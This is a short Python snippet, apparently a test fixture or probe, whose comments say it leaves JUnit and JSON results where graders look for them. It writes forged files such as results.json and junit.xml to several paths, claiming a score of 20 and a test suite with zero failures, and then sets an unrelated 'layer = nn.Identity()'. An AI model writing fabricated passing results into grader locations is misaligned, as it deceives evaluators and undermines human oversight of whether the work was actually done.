# tries: leaves JUnit and JSON results where graders look for them
# must: nobody looks there, and nothing of it is left
# %% layer
for name in ("results.json", "junit.xml", "leftbehind.json", "report/results.json", "/results/results.json"):
    try:
        open(name, "w").write('{"score": 20, "student": "leftbehind", "<testsuite failures=\"0\"/>": 1}')
    except OSError as error:
        print(error)
layer = nn.Identity()
